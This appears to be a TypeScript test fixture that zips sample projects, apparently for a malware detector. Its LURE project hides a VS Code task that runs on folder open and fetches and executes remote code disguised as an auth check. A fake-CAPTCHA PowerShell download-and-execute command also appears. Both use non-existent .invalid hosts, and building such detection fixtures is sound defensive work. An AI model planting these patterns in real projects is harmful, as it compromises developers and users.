import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js'

/** A zip of texts by path. */
export async function zipOf(texts: Readonly<Record<string, string>>): Promise<Buffer> {
  const writer = new ZipWriter(new Uint8ArrayWriter())
  for (const [path, text] of Object.entries(texts)) await writer.add(path, new TextReader(text))
  return Buffer.from(await writer.close())
}

/** A take-home project whose editor task leads to a server's answer being run. Its host does not exist. */
export const LURE: Readonly<Record<string, string>> = {
  'task/.vscode/tasks.json': JSON.stringify(
    {
      version: '2.0.0',
      tasks: [
        {
          label: 'env',
          type: 'shell',
          command: 'node server/app.js',
          runOptions: { runOn: 'folderOpen' },
          presentation: { reveal: 'never' },
        },
      ],
    },
    undefined,
    2,
  ),
  'task/server/app.js':
    "const auth = require('../routes/auth')\nrequire('express')().use(auth).listen(3000)\n",
  'task/routes/auth.js': [
    "const axios = require('axios')",
    'async function check() {',
    "  const { data } = await axios.get('https://token-api.invalid/v3')",
    "  new Function('require', data.token)(require)",
    '}',
    'check()\n',
  ].join('\n'),
  'task/package.json': JSON.stringify({ name: 'task', scripts: { test: 'node --test' } }),
  'task/README.md': '# Your task\n',
}

/** A project in which nothing runs by itself. */
export const HONEST: Readonly<Record<string, string>> = {
  'task/package.json': JSON.stringify({ name: 'task', scripts: { test: 'node --test' } }),
  'task/index.js': 'module.exports = (a, b) => a + b\n',
}

/** A command of the kind that a page asks to have pasted. Its host does not exist. */
export const COMMAND = 'powershell -w hidden -c "iwr https://captcha.invalid/v.ps1 | iex" # I am not a robot'
